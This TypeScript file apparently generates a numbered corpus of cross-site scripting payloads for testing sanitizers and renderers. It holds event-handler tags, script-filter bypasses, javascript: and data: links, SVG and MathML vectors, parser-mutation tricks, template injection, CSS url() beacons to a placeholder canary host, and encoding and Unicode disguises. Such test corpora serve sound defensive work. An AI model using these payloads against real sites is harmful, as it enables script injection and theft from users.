// Words that would run as a program if any place took text for markup, styles, addresses, templates or code.
// Each carries its own number, so that whatever fires says which one it was.

export const canary = 'canary.example';

type Make = (call: string, number: number) => string;

const calls: ((number: number) => string)[] = [
  (number) => `ranXss(${number})`,
  (number) => `alert(${number})`,
  (number) => `console.log('xss-${number}')`,
  (number) => `fetch('https://${canary}/${number}')`,
  (number) => `(new Image).src='https://${canary}/${number}'`,
  (number) => `top['ran'+'Xss'](${number})`,
];

// What may stand before a tag: out of an attribute, a comment, an element that holds plain text.
const ways = ['', '">', "'>", '` >', '--><!-- x -->', '</title>', '</textarea>', '</style>', '</script>', '</noscript>', ']]>', '"><!--', '\\">', '</option></select>', '*/-->'];

const tags: Make[] = [
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src="x"/onerror="${call}"/>`,
  (call) => `<IMG SRC=x OnErRoR=${call}>`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg/onload="${call}"//`,
  (call) => `<body onload=${call}>`,
  (call) => `<body onpageshow=${call}>`,
  (call) => `<video src=x onerror=${call}></video>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<iframe onload=${call}></iframe>`,
  (call) => `<iframe srcdoc="<img src=x onerror=parent.${call}>"></iframe>`,
  (call) => `<object data=x onerror=${call}></object>`,
  (call) => `<embed src=x onerror=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<select autofocus onfocus=${call}></select>`,
  (call) => `<textarea autofocus onfocus=${call}></textarea>`,
  (call) => `<button popovertarget=p autofocus onfocus=${call}>x</button>`,
  (call) => `<p tabindex=1 autofocus onfocus=${call}>x</p>`,
  (call) => `<p contenteditable onblur=${call} onmouseover=${call}>x</p>`,
  (call) => `<a href=# onclick=${call} onpointerenter=${call}>x</a>`,
  (call) => `<style onload=${call}></style>`,
  (call) => `<link rel=stylesheet href=x onerror=${call}>`,
  (call) => `<script>${call}</script>`,
  (call) => `<script src=x onerror=${call}></script>`,
  (call) => `<marquee onstart=${call}>x</marquee>`,
  (call) => `<x style="animation:x 1s" onanimationstart=${call}>x</x>`,
  (call) => `<img srcset="x 1x" sizes=1 onerror=${call}>`,
  (call) => `<input type=image src=x onerror=${call}>`,
];

const scripts: Make[] = [
  (call) => `<SCRIPT>${call}</SCRIPT>`, (call) => `<scr<script>ipt>${call}</scr</script>ipt>`, (call) => `<script/x>${call}</script/x>`,
  (call) => `<script\n>${call}</script\n>`, (call) => `<script\f type=module>${call}</script>`, (call) => `<script src=data:text/javascript,${call}></script>`,
  (_, number) => `<script src=https://${canary}/${number}.js></script>`, (_, number) => `<script src=//${canary}/${number}.js async defer>`, (call) => `<script>/*<!--*/${call}//--></script>`,
  (call) => `<script type="text/babel">${call}</script><script>${call}`, (call) => `<script x=">" y>${call}</script>`, (call) => `<<script>${call}//<</script>`,
  (call) => `<script>eval(atob('${Buffer.from(call).toString('base64')}'))</script>`, (call) => `<script>setTimeout("${call}",0)</script>`, (call) => `<script>import("data:text/javascript,${call}")</script>`,
  (_, number) => `<base href=https://${canary}/${number}/>`, (_, number) => `<meta http-equiv=refresh content="0;url=https://${canary}/${number}">`, (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (_, number) => `<link rel=preload as=image href=https://${canary}/${number}>`, (_, number) => `<link rel=prefetch href=https://${canary}/${number}>`, (_, number) => `<img src=https://${canary}/${number}.gif>`,
  (_, number) => `<iframe src=https://${canary}/${number}></iframe>`, (_, number) => `<form action=https://${canary}/${number}><button autofocus>x</button></form><script>document.forms[0].submit()</script>`, (call) => `<form><button formaction=javascript:${call}>x</button></form>`,
  (_, number) => `<a href=https://${canary}/${number} ping=https://${canary}/${number} id=ranXss>x</a>`, (_, number) => `<table background=https://${canary}/${number}><td>x`, (_, number) => `<video poster=https://${canary}/${number}></video>`,
];

const schemes: ((call: string, number: number) => string)[] = [
  (call) => `javascript:${call}`, (call) => `JaVaScRiPt:${call}`, (call) => ` javascript:${call}`, (call) => `java\tscript:${call}`, (call) => `java\nscript:${call}`,
  (call) => `\u0001javascript:${call}`, (call) => `javascript&colon;${call}`, (call) => `&#106;avascript:${call}`, (call) => `&#x6A;avascript&#58;${call}`, (call) => `javascript:/*https://voorbeeld.nl*/${call}`,
  (call) => `javascript://voorbeeld.nl/%0A${call}`, (call) => `javascript://%250A${call}`, (call) => `data:text/html,<script>${call}</script>`, (call) => `data:text/html;base64,${Buffer.from(`<script>${call}</script>`).toString('base64')}`, (call) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  (call) => `vbscript:${call}`, (call) => `view-source:javascript:${call}`, (call) => `feed:javascript:${call}`, (_, number) => `//${canary}/${number}`, (_, number) => `\\\\${canary}\\${number}`,
  (call) => `https://voorbeeld.nl/"onmouseover="${call}`, (call) => `https://voorbeeld.nl/'onmouseover='${call}`, (call) => `https://voorbeeld.nl/><img src=x onerror=${call}>`, (call) => `http://voorbeeld.nl@javascript:${call}`, (call) => `mailto:x@y.nl?subject="><svg onload=${call}>`,
  (call) => `tel:+31"onclick="${call}`, (call) => `javascript\u200b:${call}`, (call) => `ｊavascript:${call}`, (call) => `blob:https://voorbeeld.nl/${call}`, (call) => `filesystem:javascript:${call}`,
];

// Where an address is given: alone, as a link of markdown, of markup, of a bulletin board.
const frames: ((address: string) => string)[] = [
  (address) => address, (address) => `<${address}>`, (address) => `[lees](${address})`, (address) => `![plaatje](${address})`, (address) => `[1]: ${address}\n[lees][1]`,
  (address) => `<a href="${address}">x</a>`, (address) => `[url=${address}]x[/url]`, (address) => `Kijk op ${address}.`,
];

const drawings: Make[] = [
  (call) => `<svg><script>${call}</script></svg>`, (call) => `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><set onbegin=${call} attributename=x>`, (call) => `<svg><animate xlink:href=#a attributeName=href values=javascript:${call} /><a id=a><text y=20>x</text></a>`, (call) => `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><a href='javascript:${call}'/></svg>#x"></use></svg>`,
  (call) => `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="<script>${call}</script>"/></foreignObject></svg>`, (call) => `<svg><image href=x onerror=${call}>`, (call) => `<svg><discard onbegin=${call}>`,
  (_, number) => `<svg><style>*{fill:url(https://${canary}/${number})}</style></svg>`, (_, number) => `<svg><image href="https://${canary}/${number}"/></svg>`, (_, number) => `<svg><feImage href="https://${canary}/${number}"/></svg>`,
  (call) => `<math><mi xlink:href="javascript:${call}">x</mi></math>`, (call) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">x`, (call) => `<math href="javascript:${call}">x</math>`,
  (call) => `<math><annotation-xml encoding="text/html"><img src=x onerror=${call}></annotation-xml></math>`, (call) => `<svg><title><img src=x onerror=${call}></title></svg>`, (call) => `<svg><desc><body onload=${call}></desc></svg>`,
];

// What is harmless until a parser writes it out and reads it again.
const mutations: Make[] = [
  (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`, (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`, (call) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  (call) => `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror='${call}'>">`, (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`,
  (call) => `<p id="a\`b"><img alt="\`\`onerror=${call} src=x">`, (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`, (call) => `<template><script>${call}</script></template>`,
  (call) => `<select><noembed></select><img src=x onerror=${call}></noembed>`, (call) => `<svg><style>&lt;img src=x onerror=${call}&gt;</style></svg>`, (call) => `<?xml version="1.0"?><x><img src=x onerror=${call}></x>`,
  (call) => `<![CDATA[<img src=x onerror=${call}>]]>`, (call) => `<!--><img src=x onerror=${call}>-->`, (call) => `<!---!><img src=x onerror=${call}>-->`, (call) => `<plaintext><img src=x onerror=${call}>`,
  (call) => `<table><caption><a><table><img src=x onerror=${call}></table></a>`, (call) => `<div><template shadowrootmode=open><img src=x onerror=${call}></template></div>`,
];

const templates: Make[] = [
  (call) => `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`, (call) => `{{$on.constructor('${call.replaceAll("'", '"')}')()}}`, (call) => `\${${call}}`, (call) => `#{${call}}`, (call) => `<%= ${call} %>`, (call) => `{%raw%}${call}{%endraw%}`,
  (call) => `{{{<img src=x onerror=${call}>}}}`, (call) => `<p v-html="'<img src=x onerror=${call}>'">x</p>`, (call) => `<p ng-app ng-csp ng-init="${call}">x</p>`, (call) => `<p x-data x-init="${call}">x</p>`, (call) => `<p hx-on:load="${call}" hx-get=/ hx-trigger=load>x</p>`,
  (call) => `{"$$typeof":"Symbol(react.element)","type":"img","props":{"src":"x","dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${call}>"}}}`, (call) => `{"__proto__":{"innerHTML":"<img src=x onerror=${call}>"}}`, (call) => `@{${call}}`, (call) => `[[${call}]]`,
];

const code: Make[] = [
  (call) => `'-${call}-'`, (call) => `"-${call}-"`, (call) => `\`-${call}-\``, (call) => `\\'-${call}//`, (call) => `';${call};//`, (call) => `"};${call};//`, (call) => `"}]}</script><script>${call}</script>`, (call) => `\u2028${call}\u2028`,
  (call) => `\u2029;${call}//`, (call) => `\\x3cimg src=x onerror=${call}\\x3e`, (call) => `\\u003cimg src=x onerror=${call}\\u003e`, (call) => `<!--<script>${call}</script>`, (call) => `*/${call}/*`, (call) => `${'\\'}";${call}//`, (call) => `\r\n\r\n<script>${call}</script>`,
];

const styles: Make[] = [
  (_, number) => `red;background:url(https://${canary}/${number})`, (call) => `red;background:url(javascript:${call})`, (call) => `expression(${call})`, (_, number) => `</style><style>@import'https://${canary}/${number}';`, (_, number) => `<style>*{background:url(https://${canary}/${number})}</style>`,
  (_, number) => `}*{background-image:url("https://${canary}/${number}")}`, (_, number) => `<p style="list-style:url(https://${canary}/${number})">x</p>`, (_, number) => `;-moz-binding:url(https://${canary}/${number})`, (_, number) => `<p style="background:url('https://${canary}/${number}')">x</p>`, (_, number) => `#fff" style="background:url(https://${canary}/${number})`,
];

// The same tag as other letters, so that whoever decodes once too often makes it one.
const disguises: ((text: string) => string)[] = [
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'), (text) => text.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'), (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#x3e;'), (text) => text.replaceAll('<', '&#0000060'), (text) => encodeURIComponent(text), (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'), (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'), (text) => text.replaceAll('<', '\u2039').replaceAll('>', '\u203a'), (text) => text.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'), (text) => Buffer.from(text).toString('base64'),
  (text) => text.replaceAll('<', '<\u200b'), (text) => `\u202e${text}\u202c`, (text) => `\u2066${[...text].toReversed().join('')}\u2069${text}`, (text) => text.replaceAll('on', 'o\u00adn'), (text) => `\ufeff${text}\ufeff`, (text) => text.replaceAll(' ', '\u3000'), (text) => text.replaceAll(' ', '\v'), (text) => text.replaceAll('<', '<\u0338'), (text) => `\u{e003c}${text}`,
];

function makers(): Make[] {
  const out = ways.flatMap((way, at) => tags.filter((_, index) => way === '' || (index + at) % 2 === 0).map((tag): Make => (call, number) => way + tag(call, number)));
  const links = schemes.flatMap((scheme, at) => frames.filter((_, index) => index === 0 || (index + at) % 3 !== 0).map((frame): Make => (call, number) => frame(scheme(call, number))));
  const hidden = disguises.flatMap((disguise) => [0, 3, 9, 24].map((at): Make => (call, number) => disguise((tags[at] ?? scripts[0])?.(call, number) ?? '')));
  return [...out, ...scripts, ...links, ...drawings, ...mutations, ...templates, ...code, ...styles, ...hidden];
}

export const payloads: string[] = [...new Set(makers().map((make, number) => make(calls[number % calls.length]?.(number) ?? '', number)))];
